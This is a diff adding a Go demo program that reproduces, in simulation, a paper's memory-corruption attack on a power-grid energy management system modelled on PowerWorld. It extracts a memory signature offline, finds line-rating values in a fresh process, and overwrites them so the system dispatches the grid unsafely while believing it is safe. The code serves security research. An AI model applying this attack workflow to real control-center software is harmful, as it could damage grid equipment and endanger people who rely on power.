@@ -1,0 +1,78 @@
+// Memforensics: the paper's Sections V–VI end to end. Builds a simulated
+// PowerWorld process, extracts the structural memory signature offline,
+// then attacks a *different run* of the same build (new ASLR layout): value
+// scan, predicate filtering, corruption — and shows the EMS dispatching the
+// grid into an unsafe state while believing itself safe (Fig. 8).
+package main
+
+import (
+	"fmt"
+	"log"
+
+	edattack "github.com/edsec/edattack"
+)
+
+func main() {
+	net, err := edattack.LoadCase("case3-fig8")
+	if err != nil {
+		log.Fatal(err)
+	}
+	profile, err := edattack.EMSProfileByName("PowerWorld")
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// ---- Offline phase (attacker's lab) -------------------------------
+	lab, err := edattack.NewEMSProcess(profile, net, 1)
+	if err != nil {
+		log.Fatal(err)
+	}
+	exploit, err := edattack.NewEMSExploit(lab)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("offline phase: extracted structural signature")
+	fmt.Println(exploit.Sig)
+
+	// ---- Online phase (victim control center, different run) ----------
+	victim, err := edattack.NewEMSProcess(profile, net, 2026)
+	if err != nil {
+		log.Fatal(err)
+	}
+	ctrl, err := edattack.NewEMSController(victim)
+	if err != nil {
+		log.Fatal(err)
+	}
+	trueRatings := []float64{150, 150, 150}
+
+	_, pre, err := ctrl.StepACAware(trueRatings)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("\npre-attack: %d violations of true ratings (EMS state: safe)\n", len(pre.Violations))
+
+	// The naive scan alone cannot find the parameter...
+	hits := exploit.FindCandidates(victim, 150)
+	filtered := exploit.Filter(victim, hits)
+	fmt.Printf("value scan for 150 MVA (0x3FC00000 pu): %d hits → %d after signature\n",
+		len(hits), len(filtered))
+
+	// ...the signature isolates it; corrupt per the paper's case study.
+	rep, err := edattack.RunMemoryAttack(victim, exploit, map[int]float64{1: 120, 2: 240}, nil)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, lr := range rep.Lines {
+		fmt.Printf("corrupted line %d at %#x: %.0f → %.0f MVA\n",
+			lr.Report.Line, lr.Addr, lr.OldMVA, lr.NewMVA)
+	}
+
+	_, post, err := ctrl.StepACAware(trueRatings)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("\npost-attack: %d violation(s), worst %.1f%% over the true rating\n",
+		len(post.Violations), post.WorstPct)
+	fmt.Println("the unmodified EMS code dispatched the system into this state —")
+	fmt.Println("only its in-memory parameters were changed.")
+}
